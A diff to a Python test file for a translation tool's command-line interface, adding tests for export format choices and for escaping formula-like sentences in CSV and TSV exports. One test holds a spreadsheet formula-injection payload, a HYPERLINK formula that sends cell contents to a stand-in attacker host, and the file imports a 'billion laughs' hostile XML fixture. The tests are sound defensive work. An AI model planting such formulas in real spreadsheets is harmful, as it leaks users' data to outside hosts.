@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -10,8 +12,10 @@ from translate.storage.xliff2 import Xliff2File
 
 from tests.fixtures.hostile_xml import billion_laughs
 from workbench.cli import main
+from workbench.exchange.registry import format_names
+from workbench.exchange.tmx import read_tmx
+from workbench.store import Origin
 from workbench.store.memory import tm_entry_counts
-from workbench.tmx import read_tmx
 
 FIXTURES = Path(__file__).parent.parent / "fixtures"
 TWO_TARGETS = FIXTURES / "tmx" / "two-targets-inline.tmx"
@@ -146,3 +150,29 @@ def test_tm_lookup_names_the_document_and_sentence_of_a_post_edit(
     )
     assert main(["tm", "lookup", first.text, "--to", "ur", "--db", db_url]) == 0
     assert "100.0% exact  (human)  from talks.txt #1" in capsys.readouterr().out
+
+
+def test_export_format_choices_are_the_registered_formats(capsys):
+    with pytest.raises(SystemExit):
+        main(["export", "talks.txt", "--to", "ur", "--format", "docx"])
+    choices = capsys.readouterr().err.split("(choose from ")[1].split(")")[0]
+    assert choices.replace("'", "").split(", ") == format_names() == ["tmx", "xliff", "tsv", "csv"]
+
+
+@pytest.mark.parametrize(("suffix", "delimiter"), [(".csv", ","), (".tsv", "\t")])
+def test_a_spreadsheet_export_neutralises_sentences_that_look_like_formulas(
+    db_url, store, tmp_path, suffix, delimiter
+):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"news")'
+    document = store.add_document("formula.txt", f"{hostile}\n\n-5 degrees in Kabul.")
+    segments = store.segments(document.id)
+    store.append_revisions(
+        "ur", {segments[1].id: "+کابل میں منفی پانچ ڈگری۔"}, "amna", Origin.HUMAN
+    )
+    out = tmp_path / f"formula{suffix}"
+    assert main(["export", "formula.txt", "--to", "ur", "--out", str(out), "--db", db_url]) == 0
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=delimiter))
+    assert [(row[3], row[4]) for row in rows[1:]] == [
+        ("'" + hostile, ""),
+        ("'-5 degrees in Kabul.", "'+کابل میں منفی پانچ ڈگری۔"),
+    ]
